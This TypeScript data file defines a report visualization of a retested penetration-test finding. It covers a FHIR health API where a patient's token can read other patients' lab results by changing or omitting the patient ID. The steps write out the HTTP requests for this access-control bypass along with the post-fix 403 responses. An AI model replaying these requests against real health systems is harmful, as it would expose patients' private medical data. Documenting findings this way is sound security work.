import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const hipaaPath: AttackPath = {
  id: `${findingPrefix}-2026-104`,
  title: 'One patient can read another’s lab results',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
  reported: '2026-08-11',
  retested: '2026-08-19',
  answers: ['200', '403'],
  cut: 3,
  sides: [{ label: 'nurse role: denied', from: 2, at: 2.9, lane: 0 }],
  hops: [
    {
      label: 'patient 40092',
      glyph: 'person',
      lane: 2,
      name: 'Sign in as a patient',
      lines: [
        'POST /oauth/token HTTP/1.1',
        'Host: api.larkfield.example',
        '',
        'HTTP/1.1 200 OK',
        '{"patient": "40092", "scope": "patient/Observation.rs"}',
      ],
    },
    {
      label: 'own results',
      glyph: 'heart',
      lane: 1,
      name: 'Read your own labs',
      lines: [
        'GET /fhir/r4/Observation?patient=40092 HTTP/1.1',
        'Authorization: Bearer [patient: 40092]',
        '',
        'HTTP/1.1 200 OK',
        '{"resourceType": "Bundle", "total": 9}',
      ],
    },
    {
      label: 'patient=40117',
      glyph: 'document',
      lane: 2,
      name: 'Change the patient',
      lines: [
        'GET /fhir/r4/Observation?patient={-40117-} HTTP/1.1 {#1}',
        'Authorization: Bearer [patient: 40092]',
        '',
        'HTTP/1.1 200 OK',
        '{"subject": {!"Patient/40117"!}, "code": {!"Hemoglobin A1c"!}}',
      ],
      notes: ['the scope is checked, but the patient isn’t'],
      after: [
        'GET /fhir/r4/Observation?patient={-40117-} HTTP/1.1',
        'Authorization: Bearer [patient: 40092]',
        '',
        '{+HTTP/1.1 403 Forbidden+}',
        '{"issue": [{"code": "forbidden"}]}',
      ],
    },
    {
      label: 'other patients’ ePHI',
      glyph: 'database',
      lane: 1,
      name: 'Leave the patient out',
      lines: [
        'GET /fhir/r4/Observation?_count=1 HTTP/1.1',
        'Authorization: Bearer [patient: 40092]',
        '',
        'HTTP/1.1 200 OK',
        '{"total": {!1,902,455!}}   # synthetic patients',
      ],
      after: [
        'GET /fhir/r4/Observation?_count=1 HTTP/1.1',
        'Authorization: Bearer [patient: 40092]',
        '',
        'HTTP/1.1 200 OK',
        '{"total": {+9+}}   # her own',
      ],
    },
  ],
};
